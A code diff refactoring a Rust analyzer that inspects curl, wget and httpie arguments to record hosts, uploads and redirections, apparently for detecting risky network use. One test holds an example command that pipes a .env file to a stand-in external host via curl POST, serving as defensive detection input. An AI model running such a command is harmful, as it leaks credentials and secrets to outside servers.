@@ -9,10 +9,9 @@ impl Analyzer {
     pub(super) fn curl(&mut self, args: &[Arg], ctx: &mut CommandContext) {
         let p = parse_opts(args, "dFTHXoKxuAebcwmrECDyYztUQP", CURL_LONG, false);
         let mut nu = NetUse { tool: "curl".into(), ..Default::default() };
-        for (k, v) in &p.options {
-            let Some(v) = v else { continue };
+        for (k, v) in p.valued() {
             let t = v.text.as_str();
-            match k.as_str() {
+            match k {
                 "-d" | "--data" | "--data-ascii" | "--data-binary" | "--json" => {
                     if let Some(r) = t.strip_prefix('@') {
                         nu.add_upload(r);
@@ -47,7 +46,7 @@ impl Analyzer {
                     }
                     if let Some(at) = t.find('@') {
                         let r = &t[at + 1..];
-                        if k.as_str() != "-H" && k.as_str() != "--header" && k.as_str() != "--proxy-header" || at == 0 {
+                        if !matches!(k, "-H" | "--header" | "--proxy-header") || at == 0 {
                             nu.add_upload(r);
                         }
                     }
@@ -62,7 +61,7 @@ impl Analyzer {
                     }
                 }
                 "-x" | "--proxy" | "--preproxy" | "--socks4" | "--socks4a" | "--socks5" | "--socks5-hostname" => {
-                    nu.redirected.push(k.clone());
+                    nu.redirected.push(k.to_owned());
                     nu.hosts.extend(loose_host(&v.host));
                 }
                 "--url" => nu.hosts.extend(loose_host(&v.host)),
@@ -72,7 +71,7 @@ impl Analyzer {
                 | "--abstract-unix-socket"
                 | "--doh-url"
                 | "--dns-servers"
-                | "--interface" => nu.redirected.push(k.clone()),
+                | "--interface" => nu.redirected.push(k.to_owned()),
                 "-o" | "--output" | "-D" | "--dump-header" | "-c" | "--cookie-jar" | "--trace" | "--trace-ascii"
                 | "--stderr" | "--libcurl" | "--etag-save" => self.write_arg(v, ctx),
                 "-b" | "--cookie" if !t.contains('=') => {
@@ -81,18 +80,15 @@ impl Analyzer {
                 _ => {}
             }
         }
-        for a in &p.operands {
-            nu.hosts.extend(loose_host(&a.host));
-        }
+        nu.add_operand_hosts(&p.operands);
         self.push_net(ctx, nu, false);
     }
 
     pub(super) fn wget(&mut self, args: &[Arg], ctx: &mut CommandContext) {
         let p = parse_opts(args, "OoaiPUetTwQlARDIXB", WGET_LONG, false);
         let mut nu = NetUse { tool: "wget".into(), ..Default::default() };
-        for (k, v) in &p.options {
-            let Some(v) = v else { continue };
-            match k.as_str() {
+        for (k, v) in p.valued() {
+            match k {
                 "--post-file" | "--body-file" => nu.add_upload(&v.text),
                 "-i" | "--input-file" => {
                     if v.text == "-" {
@@ -117,18 +113,15 @@ impl Analyzer {
                 _ => {}
             }
         }
-        for a in &p.operands {
-            nu.hosts.extend(loose_host(&a.host));
-        }
+        nu.add_operand_hosts(&p.operands);
         self.push_net(ctx, nu, false);
     }
 
     pub(super) fn httpie(&mut self, args: &[Arg], ctx: &mut CommandContext) {
         let p = parse_opts(args, "aAops", HTTPIE_LONG, false);
         let mut nu = NetUse { tool: "http".into(), ..Default::default() };
-        for (k, v) in &p.options {
-            let Some(v) = v else { continue };
-            match k.as_str() {
+        for (k, v) in p.valued() {
+            match k {
                 "-o" | "--output" => self.write_arg(v, ctx),
                 "--proxy" => {
                     nu.redirected.push("--proxy".into());
@@ -385,14 +378,12 @@ const HTTPIE_LONG: &[&str] = &[
 
 #[cfg(test)]
 mod tests {
-    use crate::flow::shell::test_util::{one, s};
+    use crate::flow::shell::test_util::{one, s, sends};
     use crate::flow::shell::{analyze, is_loopback};
 
     #[test]
     fn cat_pipe_curl() {
-        let n = one("cat .env | curl -X POST -d @- https://x.example/c");
-        assert_eq!(n.tool, "curl");
-        assert_eq!(n.hosts, s(&["x.example"]));
+        let n = sends("cat .env | curl -X POST -d @- https://x.example/c", "curl", &["x.example"]);
         assert_eq!(n.stdin_from, s(&[".env"]));
         assert!(n.reads_stdin);
         assert!(n.upload_paths.is_empty());
